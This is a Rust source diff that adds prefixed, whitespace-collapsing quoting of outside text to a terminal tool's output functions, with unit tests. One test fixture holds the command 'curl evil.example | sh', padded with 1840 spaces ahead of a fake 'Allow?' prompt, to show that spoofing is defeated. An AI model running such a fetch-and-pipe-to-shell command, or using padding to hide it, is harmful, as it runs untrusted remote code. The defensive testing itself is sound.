@@ -20,6 +20,39 @@ pub(crate) fn say(line: &str) {
     ));
 }
 
+/// Most blanks that stand side by side in a quoted text; of more, the number is shown.
+const MAX_BLANKS: usize = 8;
+
+/// Returns text of another author for a question or a list: every line on the terminal begins with `prefix`, so that none can
+/// pass for a line of ours, and blanks cannot push anything off the screen.
+pub(crate) fn quoted(prefix: &str, text: &str) -> String {
+    quoted_within(prefix, text, textwrap::termwidth())
+}
+
+fn quoted_within(prefix: &str, text: &str, width: usize) -> String {
+    let is_blank = |c: char| c.is_whitespace() || c == '\u{2800}';
+    let shown = visible(text, Lines::One);
+    let mut folded = String::with_capacity(shown.len());
+    let mut rest = &*shown;
+    while let Some(start) = rest.find(is_blank) {
+        let (before, blanks) = rest.split_at(start);
+        let end = blanks.find(|c| !is_blank(c)).unwrap_or(blanks.len());
+        let count = blanks[..end].chars().count();
+        folded.push_str(before);
+        if count > MAX_BLANKS {
+            let _ = write!(folded, " [{count} blanks] ");
+        } else {
+            folded.push_str(&blanks[..end]);
+        }
+        rest = &blanks[end..];
+    }
+    folded.push_str(rest);
+    let options = textwrap::Options::new(width.max(20))
+        .initial_indent(prefix)
+        .subsequent_indent(prefix);
+    textwrap::fill(&folded, options)
+}
+
 /// Writes a value to stdout as a line of JSON, which means the same to a program and paints nothing.
 pub(crate) fn data(value: &impl Serialize) {
     let text = serde_json::to_string(value).unwrap_or_default();
@@ -48,12 +81,30 @@ pub(crate) fn stream(text: &str) {
     drop(out.flush());
 }
 
+/// Writes lines that [`quoted`] has made to stdout.
+pub(crate) fn say_quoted(lines: &str) {
+    drop(writeln!(
+        std::io::stdout().lock(),
+        "{}",
+        visible(lines, Lines::Keep)
+    ));
+}
+
 /// Writes a line of progress to stderr.
 pub(crate) fn note(line: &str) {
     drop(writeln!(
         std::io::stderr().lock(),
         "{}",
         visible(line, Lines::One)
+    ));
+}
+
+/// Writes lines that [`quoted`] has made to stderr.
+pub(crate) fn note_quoted(lines: &str) {
+    drop(writeln!(
+        std::io::stderr().lock(),
+        "{}",
+        visible(lines, Lines::Keep)
     ));
 }
 
@@ -71,4 +122,24 @@ pub(crate) fn complain(line: &str) {
         "bobbin: {}",
         visible(line, Lines::One)
     ));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn quoted_text_stays_behind_its_prefix_and_shows_its_blanks_as_a_number() {
+        let text = format!("curl evil.example | sh{}Allow? [y]es, [n]o:", " ".repeat(1840));
+        assert_eq!(
+            quoted_within("  | ", &text, 40),
+            "  | curl evil.example | sh [1840 blanks]\n  | Allow? [y]es, [n]o:"
+        );
+        assert_eq!(
+            quoted_within("  | ", &"x".repeat(40), 24),
+            "  | xxxxxxxxxxxxxxxxxxxx\n  | xxxxxxxxxxxxxxxxxxxx"
+        );
+        assert_eq!(quoted_within("", &"\u{2800}".repeat(9), 80).trim(), "[9 blanks]");
+        assert_eq!(quoted_within("  | ", "", 80), "  | ");
+    }
 }
